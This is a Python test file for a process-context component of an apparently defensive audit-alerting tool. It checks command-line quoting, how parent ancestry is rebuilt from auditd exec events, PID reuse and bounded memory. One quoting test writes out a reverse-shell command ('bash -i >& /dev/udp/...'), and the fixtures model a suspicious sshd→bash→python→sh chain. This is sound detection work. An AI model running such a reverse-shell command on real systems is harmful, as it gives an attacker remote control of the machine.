"""Process context: command lines and ancestry as far as the stream shows them, with bounded memory."""

from __future__ import annotations

from auditeql.alerts.context import ProcessContext, command_line, is_exec

T0 = 1_795_961_000_000


def exec_doc(pid, ppid, name, args, t, host="h", ok=True):
    return {
        "@timestamp": t,
        "host": {"id": host},
        "process": {"pid": pid, "parent": {"pid": ppid}, "name": name, "executable": f"/usr/bin/{name}", "args": args},
        "auditd": {"data": {"syscall": "execve"}},
        "event": {"action": "executed", "outcome": "success" if ok else "failure"},
    }


def other_doc(pid, ppid, name, title, t, host="h"):
    return {"@timestamp": t, "host": {"id": host}, "process": {"pid": pid, "parent": {"pid": ppid}, "name": name, "title": title},
            "auditd": {"data": {"syscall": "socket"}}, "event": {"action": ""}}


def feed(ctx, docs):
    for d in docs:
        ctx.observe(d, d["@timestamp"])


def test_command_line_quoting_and_title_fallback():
    assert command_line({"process": {"args": ["bash", "-c", "bash -i >& /dev/udp/1.2.3.4/5 0>&1"]}}) == "bash -c 'bash -i >& /dev/udp/1.2.3.4/5 0>&1'"
    assert command_line({"process": {"title": "python3 x.py"}}) == "python3 x.py"
    assert command_line({"process": {}}) is None


def test_failed_execs_do_not_count():
    assert is_exec(exec_doc(1, 0, "sh", ["sh"], T0))
    assert not is_exec(exec_doc(1, 0, "sh", ["sh"], T0, ok=False))
    assert not is_exec(other_doc(1, 0, "sh", "sh", T0))


def test_ancestry_chain_nearest_first():
    ctx = ProcessContext()
    feed(ctx, [
        exec_doc(100, 1, "sshd", ["sshd", "-D"], T0),
        exec_doc(200, 100, "bash", ["bash", "-l"], T0 + 10),
        other_doc(250, 100, "cron", "cron -f", T0 + 15),
        exec_doc(300, 200, "python3", ["python3", "evil.py"], T0 + 20),
        exec_doc(300, 200, "python3", ["python3", "/root/.pyenv/ip"], T0 + 21, ok=False),  # failed: ignored
        exec_doc(400, 300, "sh", ["sh", "-i"], T0 + 30),
    ])
    info = ctx.describe(exec_doc(400, 300, "sh", ["sh", "-i"], T0 + 30))
    assert info["auditeql.command_line"] == "sh -i"
    chain = info["auditeql.ancestry"]
    assert [a["pid"] for a in chain] == [300, 200, 100, 1]
    assert chain[0]["command_line"] == "python3 evil.py" and chain[0]["exec"] is True
    assert chain[1]["command_line"] == "bash -l" and chain[2]["name"] == "sshd"
    assert chain[3] == {"pid": 1}  # unknown: the chain ends there


def test_non_exec_events_fill_in_unknown_parents():
    ctx = ProcessContext()
    feed(ctx, [other_doc(50, 1, "cron", "/usr/sbin/cron -f", T0), exec_doc(60, 50, "sh", ["sh"], T0 + 5)])
    chain = ctx.describe(other_doc(60, 50, "sh", "sh", T0 + 6))["auditeql.ancestry"]
    assert chain[0] == {"pid": 50, "ppid": 1, "name": "cron", "command_line": "/usr/sbin/cron -f", "time": T0, "exec": False}


def test_pid_reuse_picks_the_exec_before_the_event():
    ctx = ProcessContext()
    feed(ctx, [
        exec_doc(10, 1, "bash", ["bash", "first"], T0),
        exec_doc(20, 10, "sh", ["sh"], T0 + 1_000),
        exec_doc(10, 1, "bash", ["bash", "second"], T0 + 600_000),  # pid 10 reused much later
        exec_doc(21, 10, "sh", ["sh"], T0 + 600_500),
    ])
    early = ctx.describe(exec_doc(20, 10, "sh", ["sh"], T0 + 1_000))["auditeql.ancestry"]
    late = ctx.describe(exec_doc(21, 10, "sh", ["sh"], T0 + 600_500))["auditeql.ancestry"]
    assert early[0]["command_line"] == "bash first"
    assert late[0]["command_line"] == "bash second"


def test_hosts_are_kept_apart():
    ctx = ProcessContext()
    feed(ctx, [exec_doc(10, 1, "bash", ["bash", "on-a"], T0, host="a"), exec_doc(10, 1, "zsh", ["zsh", "on-b"], T0, host="b")])
    assert ctx.describe(exec_doc(11, 10, "sh", ["sh"], T0 + 1, host="b"))["auditeql.ancestry"][0]["command_line"] == "zsh on-b"


def test_memory_is_bounded():
    ctx = ProcessContext(max_pids=100, per_pid=2)
    for i in range(10_000):
        ctx.observe(exec_doc(i, 1, "sh", ["sh", str(i)], T0 + i), T0 + i)
        ctx.observe(exec_doc(7, 1, "sh", ["sh", str(i)], T0 + i), T0 + i)  # one pid execs over and over
    assert len(ctx) == 100
    assert len(ctx._procs[("h", 7)]) == 2
    # the most recent processes are the ones kept
    assert ctx.lookup("h", 9_999, T0 + 10_000) is not None and ctx.lookup("h", 5, T0 + 10_000) is None


def test_loops_in_parent_pids_terminate():
    ctx = ProcessContext()
    feed(ctx, [exec_doc(1, 2, "a", ["a"], T0), exec_doc(2, 1, "b", ["b"], T0)])
    chain = ctx.describe(exec_doc(3, 1, "c", ["c"], T0))["auditeql.ancestry"]
    assert [a["pid"] for a in chain] == [1, 2]
